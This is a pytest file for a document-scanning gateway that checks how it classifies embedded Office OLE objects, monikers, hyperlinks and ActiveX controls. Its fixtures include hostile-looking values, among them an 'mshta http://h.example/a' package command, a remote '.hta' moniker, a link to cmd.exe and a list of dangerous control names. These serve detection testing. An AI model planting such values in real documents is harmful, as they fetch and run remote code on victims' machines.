from __future__ import annotations

import pytest

from gateway.extract.base import Child
from gateway.extract.office.objects import by_name, hyperlink, moniker, native, ole1
from gateway.model.content import Observation
from tests.builders.documents import ole1 as made_ole1
from tests.builders.documents import ole_native


def test_package_with_and_without_leading_size() -> None:
    data = ole_native("invoice.exe", b"MZ-lab")
    for form in (data, data[4:]):
        child = native(form)
        assert isinstance(child, Child) and child.names[0] == "invoice.exe" and child.data == b"MZ-lab"


def test_what_is_no_package() -> None:
    assert native(b"") is None and native(b"\x1c\0\0\0 equation") is None


def test_ole1_objects() -> None:
    made = ole1(made_ole1("Package", b"abc"))
    assert made is not None and made.class_name == "Package" and made.data == b"abc" and not made.linked
    assert ole1(b"\x01\x05\0\0\x02\0\0\0\xff\xff\xff\xff") is None and ole1(b"short") is None


def test_class_names() -> None:
    assert by_name("EqUaTiOn.3").code == "OLE-EQUATION"          # type: ignore[union-attr]
    assert by_name("OLE2Link").code == "OLE-LINK"                # type: ignore[union-attr]
    assert by_name("Excel.Sheet.12") is None and by_name("Word.Document.8") is None


def test_monikers() -> None:
    data = bytes(20) + "http://h.example/x.hta".encode("utf-16-le") + bytes(4)
    assert Observation("DOC-REMOTE-OLE", "http://h.example/x.hta") in list(moniker(data))
    assert list(moniker(b"C:\\Users\\a\\book.xlsx")) == []
    assert [o.code for o in moniker(bytes.fromhex("d3bd0629aa48d2118432006008c3fbfc"))] == ["OLE-SCRIPT"]   # type: ignore[union-attr]


def test_targets_of_hyperlinks_in_either_kind_of_moniker() -> None:
    assert list(hyperlink(bytes(8) + b"c:\\windows\\cmd.exe\0" + bytes(6))) == [Observation("DOC-LINK-PROGRAM", "c:\\windows\\cmd.exe")]
    assert list(hyperlink("https://a.example/x".encode("utf-16-le"))) == [Observation("DOC-LINK", "https://a.example/x")]
    assert list(hyperlink("setup.exe".encode("utf-16-le") + b"\0\0report.xlsx\0")) == []


@pytest.mark.parametrize(("name", "held"), [
    ("Microsoft Equation 3.0", True), ("MathType 6.0 Equation", False), ("MathType Equation", False), ("Equation.DSMT4", False), ("Equation.2", True),
])
def test_the_equation_editor_is_not_mathtype(name: str, held: bool) -> None:
    found = by_name(name)
    assert (found is not None and found.code == "OLE-EQUATION") == held


@pytest.mark.parametrize(("path", "kind", "code"), [
    (b"cmd.exe /c rem", 1, "OLE-PACKAGE-ACTIVE"), (b"mshta http://h.example/a", 1, "OLE-PACKAGE-ACTIVE"), (b"\\\\h.example\\s\\a.doc", 1, "OLE-PACKAGE-ACTIVE"),
    (b"C:\\docs\\a.doc", 1, "OLE-PACKAGE"), (b"C:\\docs\\a.exe", 3, "OLE-PACKAGE"),
])
def test_packages_that_only_name_something(path: bytes, kind: int, code: str) -> None:
    data = b"\2\0link\0" + path + b"\0\0\0" + bytes([kind, 0]) + (len(path) + 1).to_bytes(4, "little") + path + b"\0" + bytes(4)
    child = native(len(data).to_bytes(4, "little") + data)
    assert child is not None and [o.code for o in child.observations] == [code]


@pytest.mark.parametrize(("name", "held"), [
    ("OWC11.Spreadsheet", True), ("Internet.HHCtrl", True), ("MSScriptControl.ScriptControl", True), ("snpvw.Snapshot Viewer Control.1", True),
    ("WMPlayer.OCX.7", True), ("PBrush", False), ("Visio.Drawing.15", False), ("MSGraph.Chart.8", False), ("Outlook.FileAttach", False),
    ("AcroExch.Document.DC", False), ("Excel.Sheet.12", False), ("SnapGraphics", False),
])
def test_controls_that_office_itself_refuses(name: str, held: bool) -> None:
    found = by_name(name)
    assert (found is not None and found.code == "OLE-CONTROL") == held
